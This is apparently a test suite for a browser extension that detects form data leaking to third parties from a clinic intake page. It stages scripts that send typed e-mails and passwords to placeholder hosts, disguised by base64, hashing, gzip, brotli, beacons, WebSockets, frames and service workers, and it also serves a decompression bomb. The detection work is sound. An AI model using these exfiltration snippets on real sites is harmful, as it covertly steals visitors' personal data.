// Run alone, as what measures time is: one of its pages sends 100 MB.
// What a visitor types is found wherever it leaves, however it is dressed and carried, in a real Chromium. Every sender's clean
// twin comes first: see `lib/senders.mjs`.
import assert from "node:assert/strict";
import { afterEach, beforeEach, test } from "node:test";
import { brotliCompressSync, gzipSync } from "node:zlib";
import { fillIn, pressSend, stageIntake } from "../clinic/intake.mjs";
import { visitor } from "../clinic/persona.mjs";
import { address, hosts } from "../clinic/site.mjs";
import { snippets } from "../clinic/snippets.mjs";
import { EMAIL, WORD, base64, check, freshPath, isKind, onChange, onSend, post, proofs, proven, sha256 } from "./lib/senders.mjs";
import { stage } from "./lib/stage.mjs";
import { Watched } from "./lib/watched.mjs";

const it = stage();
/** @type {Watched} */
let watched;

beforeEach(async () => {
  watched = await Watched.open(it.browser, address("home", "clean"));
});
afterEach(() => watched.close());

const senders = [
  { name: "a JSON body", host: "json-sender.example", script: (say) => onSend(post("json-sender.example", `JSON.stringify({ form: { e: ${say} } })`)), at: /^(body|json)/ },
  {
    name: "base64 in a parameter", host: "base64-sender.example", steps: /base64/, at: /^query:u/,
    script: (say) => onSend(`new Image().src = "https://base64-sender.example/p.gif?u=" + encodeURIComponent(${base64(say)})`),
  },
  {
    name: "SHA-256 before anything is sent", host: "hash-sender.example", steps: /SHA-256/,
    arrived: (r) => r.body.includes("h="),
    script: (say) => onChange(post("hash-sender.example", `"h=" + ${sha256(say)}`)),
  },
  {
    name: "gzip", host: "gzip-sender.example", steps: /gzip/,
    script: (say) => onChange(`const packed = await new Response(new Blob([JSON.stringify({ e: ${say} })]).stream().pipeThrough(new CompressionStream("gzip"))).arrayBuffer(); ${post("gzip-sender.example", "packed")}`),
  },
  {
    name: "a header of its own", host: "header-sender.example", at: /^header:x-user/i, steps: /base64/,
    arrived: (r, value) => r.headers["x-user"] === Buffer.from(value).toString("base64"),
    script: (say) => onChange(`fetch("https://header-sender.example/in", { headers: { "x-user": ${base64(say)} } })`),
  },
  {
    name: "a WebSocket", host: "socket-sender.example", arrived: (r, value) => r.method === "MESSAGE" && r.body.includes(value),
    script: (say) => `const socket = new WebSocket("wss://socket-sender.example/live"); ${onChange(`socket.send(JSON.stringify({ e: ${say} }))`)}`,
  },
  {
    name: "a beacon that waits for the page to be left", host: "beacon-sender.example",
    script: (say) => `addEventListener("beforeunload", () => navigator.sendBeacon("https://beacon-sender.example/in", JSON.stringify({ e: ${say} })));`,
    leave: (page) => page.goto(address("home", "clean"), { waitUntil: "load" }),
  },
  {
    name: "a redirect that carries it on", host: "second-hop.example", steps: /base64/,
    script: (say) => onChange(`new Image().src = "https://first-hop.example/r?u=" + encodeURIComponent(${base64(say)})`),
  },
];

for (const sender of senders) {
  test(`typed, and sent by ${sender.name}`, async () => {
    it.sink.staged.set("first-hop.example/r", (r) => ({ status: 302, headers: { location: `https://second-hop.example/in${r.url.search}` } }));
    await check(it, watched, sender);
  });
}

test("a Blob's beacon while the page goes away: found, or said that it was not read", async () => {
  const host = "blob-sender.example";
  const { page } = watched;
  const mark = it.sink.requests.length;
  await page.goto(stageIntake(it.sink, freshPath(), `<script>addEventListener("pagehide", () =>
    navigator.sendBeacon("https://${host}/in", new Blob([JSON.stringify({ e: ${EMAIL} })], { type: "text/plain" })));</script>`), { waitUntil: "load" });
  await fillIn(page);
  await page.goto(address("home", "clean"), { waitUntil: "load" });
  await it.sink.until((r) => r.host === host && r.body.includes(visitor.email), { mark });
  const answers = (v) => proven(v, host).some(isKind) || v.findings.some((f) => f.kind === "unknown-or-unreadable" && f.recipient.host === host);
  const view = await watched.untilView(answers, "found or counted");
  if (!proven(view, host).some(isKind)) assert.ok(view.summary.unread > 0, "counted");
});

test("brotli, which only the second module takes apart", async () => {
  it.sink.staged.set(`${hosts.www}/p/pack`, (r) => ({ type: "application/octet-stream", body: brotliCompressSync(r.body) }));
  const host = "brotli-sender.example";
  await check(it, watched, {
    name: "brotli", host, steps: /brotli/, arrived: (r) => r.method === "POST" && r.body.length > 0,
    // Brotli leaves a few dozen bytes as they are.
    script: (say) => onChange(`const event = { event: "form_changed", page: "intake", properties: { fields: ["email", "phone", "reason"], email: ${say} } };
      const packed = await (await fetch("/p/pack", { method: "POST", body: JSON.stringify(event) })).arrayBuffer();
      fetch("https://${host}/in", { method: "POST", headers: { "content-type": "application/json", "content-encoding": "br" }, body: packed })`),
  });
});

test("a third party's frame that is handed it", async () => {
  const host = "frame-receiver.example";
  it.sink.staged.set(`${host}/frame`, {
    type: "text/html", body: `<!doctype html><title>Help</title><script>addEventListener("message", ({ data }) => data.e && parent.postMessage("got it", "*"));</script>`,
  });
  const { page } = watched;
  const run = async (say) => {
    await page.goto(stageIntake(it.sink, freshPath(), `<iframe src="https://${host}/frame"></iframe>
      <script>window.got = new Promise((done) => addEventListener("message", ({ data }) => data === "got it" && done(true)));
      ${onChange(`frames[0].postMessage({ e: ${say} }, "*")`)}</script>`), { waitUntil: "load" });
    await fillIn(page);
    assert.equal(await page.evaluate(() => window.got), true, "the frame was handed it");
  };
  await run(WORD);
  const clean = await watched.untilView((v) => v.recipients.some((r) => r.hosts.includes(host)), "the frame");
  assert.deepEqual(proven(clean, host).map((f) => f.said), [], "clean twin");
  await run(EMAIL);
  await watched.untilView((v) => proven(v, host).some(isKind), "what the frame was handed");
});

test("the site's own service worker, whose requests belong to no tab", async () => {
  const host = "worker-sender.example";
  it.sink.staged.set(`${hosts.www}/p/sw.js`, {
    type: "text/javascript",
    body: `addEventListener("activate", (event) => event.waitUntil(clients.claim()));
      addEventListener("message", (event) => event.waitUntil(${post(host, "JSON.stringify({ e: event.data })")}));`,
  });
  await check(it, watched, {
    name: "a service worker", host,
    script: (say) => `const ready = navigator.serviceWorker.register("/p/sw.js").then(() => navigator.serviceWorker.ready);
      ${onChange(`(await ready).active.postMessage(${say})`)}`,
  });
  await watched.page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).forEach((r) => r.unregister()));
});

test("typed, the worker ended, then sent: what was typed is remembered", async () => {
  const host = "later-sender.example";
  const { page } = watched;
  await page.goto(stageIntake(it.sink, freshPath(), `<script>${onSend(post(host, `${sha256(EMAIL)} + "." + document.querySelector("#reason").value`))}</script>`), { waitUntil: "load" });
  await fillIn(page);
  await watched.untilView((v) => v.known.some((k) => /e-mail/i.test(k.what)), "the typed value to be known");
  assert.deepEqual(proven(await watched.view(), host), [], "nothing left yet");
  const kept = async (values) => {
    const text = JSON.stringify(await chrome.storage.session.get(null));
    return values.every((value) => text.includes(value));
  };
  await page.focus("#send");
  await watched.asker.waitForFunction(kept, { polling: 50 }, [visitor.email, visitor.reason]);
  await it.browser.killWorker();
  await pressSend(page);
  const view = await watched.untilView((v) => proven(v, host).length >= 2, "both, after the worker's end");
  const words = proofs(view, host).map((e) => e.known.steps.join(" → "));
  assert.ok(words.some((w) => /SHA-256/.test(w)), JSON.stringify(words));
});

test("a password is known by its digests alone, and is in nothing that is kept", async () => {
  const host = "password-sender.example";
  const { page } = watched;
  const secret = visitor.password;
  await page.goto(stageIntake(it.sink, freshPath(), `<form><label>Password<input type="password" id="password"></label></form>
    <script>document.querySelector("#password").addEventListener("change", async ({ target }) => { ${post(host, sha256("target.value"))} });</script>`), { waitUntil: "load" });
  await page.type("#password", secret);
  await watched.untilView((v) => v.known.some((k) => /password/i.test(k.what)), "the password to be known");
  await page.focus("#email");
  const view = await watched.untilView((v) => proven(v, host).length > 0, "its digest");
  const kept = await watched.asker.evaluate(async () => JSON.stringify([await chrome.storage.session.get(null), await chrome.storage.local.get(null)]));
  for (const [where, text] of [["storage", kept], ["the log", await watched.export("log")], ["the view", JSON.stringify(view)]]) {
    assert.ok(!text.includes(secret), `the password is in ${where}`);
  }
});

test("bad input from a page: a bomb, deep JSON, a million parameters; the next leak is found", async () => {
  const host = "after-sender.example";
  it.sink.staged.set(`${hosts.www}/p/bomb`, { type: "application/octet-stream", body: gzipSync(Buffer.alloc(200 << 20), { level: 9 }) });
  await check(it, watched, {
    name: "after a bomb", host, arrived: (r, value) => r.path === "/in" && r.body.includes(value),
    script: (say) => onChange(`const bomb = await (await fetch("/p/bomb")).arrayBuffer();
      const quiet = (body) => fetch("https://${host}/bad", { method: "POST", mode: "no-cors", body }).catch(() => {});
      await quiet(bomb);
      await quiet("[".repeat(100000) + "]".repeat(100000));
      await quiet("a&".repeat(1000000));
      await quiet(new Uint8Array(1 << 20).fill(0xff));
      await quiet("x".repeat(50 << 20));
      await ${post(host, `JSON.stringify({ e: ${say} })`)}`),
  });
});

test("a form for the site itself, ordinary tags beside it: nothing of what is typed is said to leave", async () => {
  const { sink } = it;
  const { page } = watched;
  const chat = "chat.helpdesk.example";
  sink.staged.set(`${chat}/w.js`, { type: "text/javascript", body: `const line = new WebSocket("wss://${chat}/live");
    line.onopen = () => setInterval(() => line.send(JSON.stringify({ type: "ping", page: "Bayside Clinic", typing: false })), 200);` });
  sink.staged.set("fonts.googleapis.com/css2", { type: "text/css", body: "" });
  const tags = `<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Inter:wght@400;600">`
    + snippets.ga4({ consent: "granted" }) + snippets.matomo({}) + `<script src="https://${chat}/w.js"></script>`;
  const own = `<script>document.querySelector("#intake").addEventListener("change", ({ target }) => {
      gtag("event", "form_start", { form_id: "intake", form_name: "", first_field_id: target.id, first_field_type: target.type, form_length: 3 });
      fetch("/p/save", { method: "POST", body: new FormData(target.form) });
      const files = new FormData(target.form);
      files.append("photo", new Blob([target.value]), "photo.txt");
      fetch("/p/save", { method: "POST", body: files });
    });</script>`;
  const mark = sink.requests.length;
  await page.goto(stageIntake(sink, freshPath(), tags + own), { waitUntil: "load" });
  // Words that stand in tags' requests as well.
  await fillIn(page, { reason: "intake visit, page view" });
  const typed = sink.requests.length;
  await sink.until((r) => r.host === chat && r.method === "MESSAGE", { mark: typed, what: "the chat's own talk" });
  await pressSend(page);
  await sink.until((r) => r.path === "/p/sent" && r.body.includes("intake"), { mark, what: "the form, at the site itself" });
  await sink.until((r) => r.path === "/g/collect", { mark, what: "the page view" });
  const view = await watched.untilView((v) => v.known.length >= 3 && v.recipients.some((r) => r.hosts.includes(chat)), "the visit to be read");
  const said = view.findings.filter((f) => f.kind === "form-value-leak" || f.evidence.some((e) => e.known && !/^page/.test(e.known.value)));
  assert.deepEqual(said.map((f) => `${f.kind} ${f.recipient?.host}: ${f.said}`), []);
  assert.deepEqual(view.known.filter((k) => k.left.length && !/page/i.test(k.what)).map((k) => k.what), []);
});
